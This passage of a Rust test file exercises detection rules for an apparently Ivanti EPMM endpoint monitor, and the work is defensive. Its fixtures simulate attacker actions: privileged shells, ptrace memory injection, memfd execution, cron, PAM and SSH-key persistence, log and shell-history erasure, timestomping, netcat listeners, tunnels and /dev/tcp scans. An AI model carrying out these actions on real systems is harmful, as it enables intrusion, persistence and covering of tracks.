    all.extend(w.connect(sh, "198.51.100.7", 443));
    all.extend(
        w.spawn(sh, "/usr/bin/tar", &["tar", "czf", "/tmp/a.tgz", "/tmp/x"])
            .1,
    );
    assert!(!has(&all, "EPMM-B11-EXFIL"), "{:?}", ids(&all));
    assert!(!has(&all, "EPMM-B11-ARCHIVE"), "{:?}", ids(&all));
}

#[test]
fn b12_privileged_shell() {
    let mut w = World::new();
    let (sh, _) = w.spawn(
        TOMCAT,
        "/bin/sh",
        &["/bin/sh", "-c", "/usr/bin/env /bin/sh -p -c 'id'"],
    );
    let (env, _) = w.spawn(
        sh,
        "/usr/bin/env",
        &["/usr/bin/env", "/bin/sh", "-p", "-c", "id"],
    );
    let (_, alerts) = w.spawn(env, "/bin/sh", &["/bin/sh", "-p", "-c", "id"]);
    assert!(has(&alerts, "EPMM-B12"));
    let alerts = fresh_spawn(ADMIN_SHELL, "/bin/sh", &["/bin/sh", "-c", "id"]);
    assert!(!has(&alerts, "EPMM-B12"));
}

#[test]
fn b15_injection_and_admin_debugging() {
    let ptrace = |target: u32| {
        event::Kind::Ptrace(PtraceEvent {
            request: "PTRACE_ATTACH".into(),
            request_code: 16,
            target_pid: target,
            ..Default::default()
        })
    };
    let mut w = World::new();
    let (sh, _) = w.spawn(HTTPD, "/bin/sh", &["sh"]);
    let (tool, _) = w.spawn(sh, "/tmp/inject", &["/tmp/inject"]);
    assert!(has(&w.on(tool, ptrace(TOMCAT)), "EPMM-B15"));
    // Each way of writing another process's memory raises the rule by itself (no
    // collapse into the ptrace's alert).
    w.engine.set_collapse_window(0);
    let vm = event::Kind::ProcessVmWrite(ProcessVmWriteEvent {
        target_pid: TOMCAT,
        bytes: 8,
        ..Default::default()
    });
    assert!(has(&w.on(tool, vm), "EPMM-B15"));
    assert_eq!(w.engine.stats.collapsed, 0);
    // Support's gdb from an ssh login is audited at low severity, not alarmed.
    let mut w = World::new();
    let (gdb, _) = w.spawn(ADMIN_SHELL, "/usr/bin/gdb", &["gdb", "-p", "200"]);
    let alerts = w.on(gdb, ptrace(TOMCAT));
    assert!(
        !has(&alerts, "EPMM-B15") && has(&alerts, "EPMM-B15-ADMIN"),
        "{:?}",
        ids(&alerts)
    );
    // A process writing its own memory is not injection.
    let own = event::Kind::ProcMemWrite(ProcMemWriteEvent {
        target_pid: gdb,
        path: format!("/proc/{gdb}/mem"),
        ..Default::default()
    });
    assert!(w.on(gdb, own).is_empty());
}

#[test]
fn b16_memfd_execution() {
    let mut w = World::new();
    let pid = w.fork(ADMIN_SHELL);
    let mut ev = Event {
        pid,
        tid: pid,
        kind: Some(event::Kind::Exec(Box::new(ExecEvent {
            ppid: ADMIN_SHELL,
            filename: "/dev/fd/3".into(),
            exe: "/memfd:kworker".into(),
            exe_memfd: true,
            exe_deleted: true,
            argv: vec!["[kworker/0:1]".into()],
            ..Default::default()
        }))),
        ..Default::default()
    };
    assert!(has(&w.feed(ev.clone()), "EPMM-B16"));
    let mut w = World::new();
    let pid = w.fork(ADMIN_SHELL);
    ev.pid = pid;
    if let Some(event::Kind::Exec(e)) = &mut ev.kind {
        e.exe = "/usr/bin/true".into();
        e.exe_memfd = false;
        e.exe_deleted = false;
    }
    assert!(!has(&w.feed(ev), "EPMM-B16"));
}

#[test]
fn b17_exec_from_tmp() {
    let alerts = fresh_spawn(ADMIN_SHELL, "/dev/shm/.x/kworker", &["kworker"]);
    assert!(has(&alerts, "EPMM-B17"));
    let mut w = World::new();
    let (_, alerts) = w.spawn(
        ADMIN_SHELL,
        "/tmp/ivanti-security-update-1761642/run",
        &["run"],
    );
    assert!(!has(&alerts, "EPMM-B17"), "the hotfix's own directory");
    let (_, alerts) = w.spawn(ADMIN_SHELL, "/usr/bin/ls", &["ls"]);
    assert!(!has(&alerts, "EPMM-B17"));
    // Hidden anywhere under /mi (the appliance's own tree), not its ordinary programs.
    let alerts = fresh_spawn(ADMIN_SHELL, "/mi/files/.cache/x", &["x"]);
    assert!(has(&alerts, "EPMM-B17"), "{:?}", ids(&alerts));
    let alerts = fresh_spawn(ADMIN_SHELL, "/mi/.x", &["x"]);
    assert!(has(&alerts, "EPMM-B17"), "{:?}", ids(&alerts));
    let alerts = fresh_spawn(ADMIN_SHELL, "/tmp/x", &["x"]);
    assert!(has(&alerts, "EPMM-B17"), "{:?}", ids(&alerts));
    let (_, alerts) = w.spawn(ADMIN_SHELL, "/mi/bin/mi-monitor", &["mi-monitor"]);
    assert!(!has(&alerts, "EPMM-B17"), "{:?}", ids(&alerts));
}

#[test]
fn b18_persistence() {
    let mut w = World::new();
    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["sh"]);
    assert!(has(
        &w.file(sh, FileOp::Create, "/etc/cron.d/update"),
        "EPMM-B18"
    ));
    // Boot and login persistence beyond cron: rc.local, a profile script, a PAM module.
    for path in [
        "/etc/rc.d/rc.local",
        "/etc/profile.d/zz-update.sh",
        "/usr/lib64/security/pam_unix2.so",
    ] {
        let mut w = World::new();
        let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["sh"]);
        assert!(
            has(&w.file(sh, FileOp::OpenWrite, path), "EPMM-B18"),
            "{path}"
        );
    }
    let (_, alerts) = w.spawn(sh, "/usr/bin/crontab", &["crontab", "-"]);
    assert!(has(&alerts, "EPMM-B18-EXEC"));
    let mut w = World::new();
    let (yum, _) = w.spawn(ADMIN_SHELL, "/usr/bin/yum", &["yum", "update"]);
    let (rpm, _) = w.spawn(yum, "/usr/bin/rpm", &["rpm"]);
    assert!(
        w.file(rpm, FileOp::Create, "/usr/lib/systemd/system/mi.service")
            .is_empty()
    );
}

/// User-level persistence: a service user's profile, an SSH key, a systemd user unit, in
/// any home; an administrator's own edits from SSH are not flagged.
#[test]
fn b18_user_persistence_in_any_home() {
    for (op, path) in [
        (FileOp::OpenWrite, "/home/tomcat/.bashrc"),
        (FileOp::Create, "/home/misupport/.ssh/authorized_keys"),
        (
            FileOp::Create,
            "/var/lib/tomcat/.config/systemd/user/update.timer",
        ),
        (FileOp::Rename, "/root/.profile"),
    ] {
        let mut w = World::new();
        let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["sh"]);
        assert!(has(&w.file(sh, op, path), "EPMM-B18-USER"), "{path}");
    }
    let mut w = World::new();
    let (vim, _) = w.spawn(ADMIN_SHELL, "/usr/bin/vim", &["vim", ".bashrc"]);
    assert!(!has(
        &w.file(vim, FileOp::OpenWrite, "/root/.bashrc"),
        "EPMM-B18-USER"
    ));
    let mut w = World::new();
    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["sh"]);
    assert!(
        !has(
            &w.file(sh, FileOp::Create, "/var/lib/tomcat/units/update.timer"),
            "EPMM-B18-USER"
        ),
        "a unit-named file outside a systemd user directory"
    );
}

#[test]
fn b20_recon_burst() {
    let mut w = World::new();
    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["sh", "-c", "id;uname -a;hostname"]);
    w.spawn(sh, "/usr/bin/id", &["id"]);
    w.spawn(sh, "/usr/bin/uname", &["uname", "-a"]);
    let (_, alerts) = w.spawn(sh, "/usr/bin/hostname", &["hostname"]);
    assert!(has(&alerts, "EPMM-B20"), "{:?}", ids(&alerts));
    // The same tool three times is not a burst of reconnaissance.
    let mut w = World::new();
    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["sh"]);
    let mut all = Vec::new();
    for _ in 0..3 {
        all.extend(w.spawn(sh, "/usr/bin/id", &["id"]).1);
    }
    assert!(!has(&all, "EPMM-B20"));
}

#[test]
fn b21_tunnels() {
    let alerts = fresh_spawn(ADMIN_SHELL, "/tmp/frpc", &["frpc", "-c", "frpc.ini"]);
    assert!(has(&alerts, "EPMM-B21"));
    let alerts = fresh_spawn(
        ADMIN_SHELL,
        "/usr/bin/ssh",
        &["ssh", "-R", "9000:localhost:22", "x"],
    );
    assert!(
        !has(&alerts, "EPMM-B21"),
        "an admin's ssh tunnel is not the web tier's"
    );
}

#[test]
fn b21_scan_by_fan_out_whatever_the_tool() {
    // A /dev/tcp loop from a web shell: every connect from its own subshell, all open
    // or not; 16 distinct ports within 10 s.
    let mut w = World::new();
    let (sh, _) = w.spawn(
        TOMCAT,
        "/bin/bash",
        &["bash", "-c", "for p in ...; do ...; done"],
    );
    let mut all = Vec::new();
    for port in 1..=15 {
        let sub = w.fork(sh);
        all.extend(w.connect(sub, "10.0.0.9", port));
        w.now += 100_000_000;
    }
    assert!(!has(&all, "EPMM-B21-SCAN"), "15 ports are not yet a scan");
    let sub = w.fork(sh);
    let alerts = w.connect(sub, "10.0.0.9", 16);
    assert!(has(&alerts, "EPMM-B21-SCAN"), "{:?}", ids(&alerts));
    let scan = alerts
        .iter()
        .find(|a| a.rule_id == "EPMM-B21-SCAN")
        .unwrap();
    assert_eq!(scan.techniques, ["T1046"]);
    assert_eq!(scan.evidence.len(), MAX_EVIDENCE);

    // A python sweep of hosts by a process outside the web tier, every one refused.
    let mut w = World::new();
    let (py, _) = w.spawn(
        ADMIN_SHELL,
        "/usr/bin/python3.11",
        &["python3.11", "-c", "..."],
    );
    let mut all = Vec::new();
    for host in 1..=16 {
        all.extend(w.connect_failed(py, &format!("10.0.1.{host}"), 22, -111));
        w.now += 10_000_000;
    }
    assert!(has(&all, "EPMM-B21-SCAN"), "{:?}", ids(&all));

    // The same port over and over is one value; spread over more than 10 s it is no
    // burst; successful connects of a process outside the web tier do not count.
    let mut w = World::new();
    let (sh, _) = w.spawn(TOMCAT, "/bin/bash", &["bash"]);
    let mut all = Vec::new();
    for _ in 0..40 {
        all.extend(w.connect(sh, "10.0.0.9", 443));
    }
    for port in 1..=20 {
        all.extend(w.connect(sh, "10.0.0.9", port));
        w.now += 1_000_000_000;
    }
    for port in 1..=40 {
        all.extend(w.connect(ADMIN_SHELL, "10.0.0.9", port));
    }
    assert!(!has(&all, "EPMM-B21-SCAN"), "{:?}", ids(&all));
}

#[test]
fn b23_log_tampering() {
    let mut w = World::new();
    let (sed, _) = w.spawn(
        ADMIN_SHELL,
        "/usr/bin/sed",
        &["sed", "-i", "/fob/d", "/var/log/httpd/https-access_log"],
    );
    let mut rename = FileEvent {
        op: FileOp::Rename as i32,
        path: "/var/log/httpd/https-access_log".into(),
        other_path: "/var/log/httpd/sedX1".into(),
        ..Default::default()
    };
    assert!(has(
        &w.on(sed, event::Kind::File(rename.clone())),
        "EPMM-B23"
    ));
    let mut w = World::new();
    let (cron, _) = w.spawn(INIT, "/usr/sbin/crond", &["crond"]);
    let (lr, _) = w.spawn(
        cron,
        "/usr/sbin/logrotate",
        &["logrotate", "/etc/logrotate.conf"],
    );
    rename.path = "/var/log/httpd/https-access_log".into();
    assert!(
        w.on(lr, event::Kind::File(rename)).is_empty(),
        "logrotate rotates logs"
    );
}

/// `: > log` (a truncating open of a file that was there) and a deleted audit log.
#[test]
fn b23_truncation_and_deletion_of_logs_and_audit_trail() {
    let mut w = World::new();
    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["sh"]);
    assert!(has(
        &w.file(sh, FileOp::Truncate, "/mi/tomcat/logs/catalina.out"),
        "EPMM-B23"
    ));
    // Another tree (alerts of one rule in one tree are collapsed).
    let mut w = World::new();
    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["sh"]);
    let (rm, _) = w.spawn(sh, "/usr/bin/rm", &["rm", "-f", "/var/log/audit/audit.log"]);
    assert!(has(
        &w.file(rm, FileOp::Unlink, "/var/log/audit/audit.log"),
        "EPMM-B23"
    ));
    // auditd rotating its own log.
    let mut w = World::new();
    let (auditd, _) = w.spawn(INIT, "/sbin/auditd", &["auditd"]);
    assert!(
        w.file(auditd, FileOp::Rename, "/var/log/audit/audit.log")
            .is_empty()
    );
}

#[test]
fn b23_history_erased() {
    let mut w = World::new();
    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["sh"]);
    let (ln, _) = w.spawn(
        sh,
        "/usr/bin/ln",
        &["ln", "-sf", "/dev/null", "/root/.bash_history"],
    );
    assert!(has(
        &w.file(ln, FileOp::Link, "/root/.bash_history"),
        "EPMM-B23-HISTORY"
    ));
    let mut w = World::new();
    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["sh"]);
    let (tr, _) = w.spawn(
        sh,
        "/usr/bin/truncate",
        &["truncate", "-s0", "/root/.mysql_history"],
    );
    assert!(has(
        &w.file(tr, FileOp::Truncate, "/root/.mysql_history"),
        "EPMM-B23-HISTORY"
    ));
    // bash trimming its own history on exit.
    let mut w = World::new();
    let (bash, _) = w.spawn(ADMIN_SHELL, "/bin/bash", &["bash"]);
    assert!(!has(
        &w.file(bash, FileOp::Truncate, "/root/.bash_history"),
        "EPMM-B23-HISTORY"
    ));
}

/// touch -r on a served JSP, a cron file and a log; the package manager is left alone.
#[test]
fn b23_timestomp_of_served_persistence_and_log_files() {
    for path in [
        "/mi/tomcat/webapps/mifs/403.jsp",
        "/etc/cron.d/update",
        "/var/log/httpd/https-access_log",
    ] {
        let mut w = World::new();
        let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["sh"]);
        let (touch, _) = w.spawn(sh, "/usr/bin/touch", &["touch", "-r", "/etc/hosts", path]);
        assert!(
            has(&w.file(touch, FileOp::Utimes, path), "EPMM-B23-TIMESTOMP"),
            "{path}"
        );
    }
    let mut w = World::new();
    let (rpm, _) = w.spawn(ADMIN_SHELL, "/usr/bin/rpm", &["rpm", "-U", "mi.rpm"]);
    assert!(
        w.file(rpm, FileOp::Utimes, "/mi/tomcat/webapps/mifs/index.jsp")
            .is_empty()
    );
}

#[test]
fn b24_outbound_from_web_tier() {
    let mut w = World::new();
    let (sh, _) = w.spawn(TOMCAT, "/bin/bash", &["bash"]);
    assert!(has(&w.connect(sh, "193.24.123.42", 443), "EPMM-B24"));
    let mut w = World::new();
    let (sh, _) = w.spawn(TOMCAT, "/bin/bash", &["bash"]);
    assert!(
        !has(&w.connect(sh, "10.1.2.3", 443), "EPMM-B24"),
        "internal destination"
    );
    assert!(
        !has(&w.connect(TOMCAT, "52.1.2.3", 443), "EPMM-B24"),
        "Tomcat's own integrations"
    );
}

#[test]
fn b25_new_listener() {
    let listen = event::Kind::Listen(ListenEvent {
        fd: 3,
        backlog: 1,
        socket: Some(SocketInfo {
            family: "inet".into(),
            r#type: "stream".into(),
            local_addr: "0.0.0.0".into(),
            local_port: 443,
            ..Default::default()
        }),
        ..Default::default()
    });
    let mut w = World::new();
    let (nc, _) = w.spawn(ADMIN_SHELL, "/usr/bin/nc", &["nc", "-lvp", "443"]);
    assert!(has(&w.on(nc, listen.clone()), "EPMM-B25"));
    let mut w = World::new();
    assert!(w.on(HTTPD, listen).is_empty());
}

// ---- Benign EPMM activity stays quiet (THREATS.md 7) --------------------------------------

#[test]
fn self_tamper_signals_injection_and_kernel_code() {
    let mut w = World::new();
    let (tool, _) = w.spawn(ADMIN_SHELL, "/usr/bin/kill", &["kill", "-STOP", "999"]);
    let signal = |name: &str| {
        event::Kind::Signal(SignalEvent {
            signal: 19,
            signal_name: name.into(),
            target_pid: AGENT,
            ..Default::default()
        })
    };
    assert!(has(&w.on(tool, signal("SIGSTOP")), "SELF-TAMPER-SIGNAL"));
    // systemd stopping the service, and a reload, are expected.
    assert!(!has(&w.on(INIT, signal("SIGTERM")), "SELF-TAMPER-SIGNAL"));
    let (reloader, _) = w.spawn(ADMIN_SHELL, "/usr/bin/kill", &["kill", "-HUP", "999"]);
    assert!(!has(
        &w.on(reloader, signal("SIGHUP")),
        "SELF-TAMPER-SIGNAL"
    ));

    let (gdb, _) = w.spawn(ADMIN_SHELL, "/usr/bin/gdb", &["gdb", "-p", "999"]);
    let on_agent = event::Kind::Ptrace(PtraceEvent {
        request: "PTRACE_ATTACH".into(),
        target_pid: AGENT,
        ..Default::default()
    });
    assert!(has(&w.on(gdb, on_agent), "SELF-TAMPER-INJECT"));
    let elsewhere = event::Kind::ProcMemWrite(ProcMemWriteEvent {
        target_pid: TOMCAT,
        path: format!("/proc/{TOMCAT}/mem"),
        ..Default::default()
    });
    assert!(!has(&w.on(gdb, elsewhere), "SELF-TAMPER-INJECT"));

    let (loader, _) = w.spawn(
        ADMIN_SHELL,
        "/usr/sbin/bpftool",
        &["bpftool", "prog", "load"],
    );
    let bpf = || {
        event::Kind::BpfLoad(BpfLoadEvent {
            prog_type: 2,
            prog_name: "hide".into(),
            ..Default::default()
        })
    };
    assert!(has(&w.on(loader, bpf()), "SELF-TAMPER-KERNEL"));
    let (systemd, _) = w.spawn(INIT, "/usr/lib/systemd/systemd", &["systemd", "--user"]);
    assert!(!has(&w.on(systemd, bpf()), "SELF-TAMPER-KERNEL"));
}

#[test]
fn benign_activity_is_quiet() {
    let mut w = World::new();
    let mut alerts = Vec::new();
    // JVM child plumbing on JDK >= 12: jspawnhelper execs, then the real program, with pipes.
    let child = w.fork(TOMCAT);
    alerts.extend(w.exec_at(
        child,
        TOMCAT,
        "/usr/lib/jvm/java-17/lib/jspawnhelper",
        &["jspawnhelper", "1:2:3"],
        91,
    ));
    // An administrator's session and a package query.
    let (sh, a) = w.spawn(ADMIN_SHELL, "/usr/bin/bash", &["bash"]);
    alerts.extend(a);
    for (exe, argv) in [
        ("/usr/bin/ls", vec!["ls", "-l", "/mi"]),
        ("/usr/bin/rpm", vec!["rpm", "-qa"]),
        ("/usr/bin/systemctl", vec!["systemctl", "status", "httpd"]),
        (
            "/usr/bin/tail",
            vec!["tail", "/var/log/httpd/https-access_log"],
        ),
    ] {
        alerts.extend(w.spawn(sh, exe, &argv).1);
    }
    // Tomcat's own log rotation, gc.log, loopback connectors, MySQL.
    alerts.extend(w.file(TOMCAT, FileOp::Rename, "/var/log/tomcat/mifs.log"));
    alerts.extend(w.file(
        TOMCAT,
        FileOp::Create,
        "/mi/tomcat/work/Catalina/localhost/mifs/x_jsp.java",
    ));
    alerts.extend(w.connect(TOMCAT, "127.0.0.1", 8083));
    alerts.extend(w.on(
        TOMCAT,
        event::Kind::Bind(BindEvent {
            unix_path: "".into(),
            ..Default::default()
        }),
    ));
    // The helper serving a normal download calls date.
    alerts.extend(w.spawn(HELPER, "/usr/bin/date", &["date", "+%s"]).1);
    assert!(alerts.is_empty(), "{:?}", ids(&alerts));
}

#[test]
fn allow_entries_and_disables_silence_rules() {
    let extra = "allow:\n  - rules: [EPMM-B2]\n    condition: proc.cmdline contains \"diag.sh\"\n    reason: EPMM diagnostics\ndisable: [EPMM-B3]\n";
    let set = rules::compile_texts(&[
        (rules::DEFAULT_PACK_NAME.into(), rules::DEFAULT_PACK.into()),
        ("local.yaml".into(), extra.into()),
    ])
    .unwrap();
    let mut w = World::with_rules(set);
    let (_, alerts) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "/mi/bin/diag.sh"]);
    assert!(!has(&alerts, "EPMM-B2"));
    assert_eq!(w.engine.stats.allowed, 1);
    let (_, alerts) = w.spawn(TOMCAT, "/usr/bin/curl", &["curl", "http://x"]);
    assert!(!has(&alerts, "EPMM-B3"));
    let (_, alerts) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "id"]);
    assert!(has(&alerts, "EPMM-B2"), "other shells still alert");
}

/// The kernel's verdict as the decoder reports it: action, reason and label only.
fn verdict(action: Action, reason: &str, label: u32) -> Enforcement {
    Enforcement {
        action: action as i32,
        reason: reason.into(),
        label,
        ..Default::default()
    }
}

fn label_of(w: &World, identity: &str) -> u32 {
    w.engine
        .rules()
        .enforce
        .by_identity(identity)
        .unwrap()
        .label
}

#[test]
fn enforcement_verdicts_raise_their_rule_and_mark_every_alert_of_the_exec() {
    let mut w = World::new();
    let helper = label_of(&w, "rewritemap-helper");
    let sub = w.fork(HELPER);
    w.next_enforcement = Some(verdict(Action::Killed, "not_allowed", helper));
    let alerts = w.exec_at(
        sub,
        HELPER,
        "/usr/bin/touch",
        &["/usr/bin/touch", "/mi/poc"],
        0,
    );
    let enforced = alerts
        .iter()
        .find(|a| a.rule_id == "enforce:rewritemap-helper")
        .expect("the enforcement rule's alert");
    assert_eq!(enforced.action, Action::Killed as i32);
    assert_eq!(enforced.enforcement, "enforce:rewritemap-helper");
    let b1 = alerts.iter().find(|a| a.rule_id == "EPMM-B1").expect("B1");
    assert_eq!(
        b1.action,
        Action::Killed as i32,
        "detections say what was done"
    );

    // Audit: the same, as "would have been".
    let tomcat = label_of(&w, "tomcat");
    w.next_enforcement = Some(verdict(Action::WouldKill, "socket_shell", tomcat));
    let (_, alerts) = w.spawn_with(TOMCAT, "/usr/bin/bash", &["bash", "-i"], FdKind::Socket);
    let enforced = alerts
        .iter()
        .find(|a| a.rule_id == "enforce:tomcat")
        .expect("the tomcat enforcement alert");
    assert_eq!(enforced.action, Action::WouldKill as i32);

    // BPF-LSM refused an exec: only a failed exec reports it.
    let sub = w.fork(HELPER);
    let alerts = w.feed(Event {
        pid: sub,
        tid: sub,
        kind: Some(event::Kind::ExecFailed(ExecFailedEvent {
            filename: "/usr/bin/id".into(),
            errno: 1,
            error: "EPERM".into(),
            enforcement: Some(Box::new(verdict(Action::Denied, "not_allowed", helper))),
            ..Default::default()
        })),
        ..Default::default()
    });
    assert!(
        alerts
            .iter()
            .any(|a| a.rule_id == "enforce:rewritemap-helper" && a.action == Action::Denied as i32),
        "{:?}",
        ids(&alerts)
    );

    // No verdict, no enforcement alert and no action.
    let (_, alerts) = w.spawn(HELPER, "/usr/bin/id", &["id"]);
    assert!(!alerts.iter().any(|a| a.rule_id.starts_with("enforce:")));
    assert!(alerts.iter().all(|a| a.action == Action::None as i32));
}

#[test]
fn sources_of_enforced_identities_are_handed_to_the_kernel() {
    let mut w = World::new();
    let labelled = w.engine.take_labelled();
    let helper = label_of(&w, "rewritemap-helper");
    let tomcat = label_of(&w, "tomcat");
    assert!(
        labelled
            .iter()
            .any(|&(pid, _, l)| pid == HELPER && l == helper),
        "{labelled:?}"
    );
    assert!(
        labelled
            .iter()
            .any(|&(pid, _, l)| pid == TOMCAT && l == tomcat),
        "{labelled:?}"
    );
    assert!(
        !labelled.iter().any(|&(pid, ..)| pid == HTTPD),
        "httpd is not enforced"
    );
    // A descendant is not a new source: the kernel's fork inheritance labels it.
    w.spawn(HELPER, "/usr/bin/date", &["date", "+%s"]);
    assert!(w.engine.take_labelled().is_empty());
    // Nor does a tomcat child named like a helper become one.
    w.spawn(
        TOMCAT,
        "/usr/bin/bash",
        &["/bin/bash", "/mi/bin/map-appstore-url"],
    );
    assert!(w.engine.take_labelled().is_empty());
}

/// Every rule of the pack is exercised by a test above.
#[test]
fn every_default_rule_has_tests() {
    let source = include_str!("tests.rs");
    let set =
        rules::compile_texts(&[(rules::DEFAULT_PACK_NAME.into(), rules::DEFAULT_PACK.into())])
            .unwrap();
    for rule in &set.rules {
        assert!(
            source.contains(&format!("\"{}\"", rule.id)),
            "no test names {}",
            rule.id
        );
    }
}
